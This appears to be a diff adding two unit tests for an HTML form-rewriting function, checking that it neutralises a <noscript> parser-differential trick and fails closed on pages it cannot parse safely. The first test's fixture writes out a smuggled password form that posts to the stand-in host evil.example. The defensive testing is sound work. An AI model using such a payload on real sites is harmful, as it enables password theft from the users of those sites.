@@ -205,6 +205,26 @@ TEST(RewriteForms, InlineFrameDocumentsAreRemoved) {
   EXPECT_EQ(out, "<iframe name=\"w\"></iframe>");
 }
 
+TEST(RewriteForms, NoscriptIsReadAsABrowserWithScriptsReadsIt) {
+  // gumbo reads <noscript> content as markup (scripting off): here a <p> with
+  // a title. A browser with scripting on reads raw text up to "</noscript"
+  // and then a live form. The rewritten page must mean the same to both.
+  const std::string html =
+      "<body><noscript><p title=\"</noscript><form action=https://evil.example/>"
+      "<input type=password name=pw>\">x</p></noscript><p>end</p>";
+  const std::string out = rewrite_forms(html, kAction);
+  expect_all_post_back(out, 1);
+  EXPECT_EQ(out.find("evil"), std::string::npos) << out;
+  EXPECT_NE(out.find("<noscript></noscript>"), std::string::npos) << out;
+  EXPECT_NE(out.find("<input type=password name=pw>"), std::string::npos) << out;
+}
+
+TEST(RewriteForms, FailsClosedOnAPageItCannotReadSafely) {
+  std::string many;
+  for (int i = 0; i < 101; ++i) many += "<noscript></noscript>";
+  EXPECT_EQ(rewrite_forms(many + "<form></form>", kAction), "<!doctype html><title></title>");
+}
+
 TEST(RewriteForms, AddsABaseForRelativeResources) {
   const std::string out = rewrite_forms(
       "<!doctype html><html><head><title>t</title></head><body><img src=logo.png></body></html>",
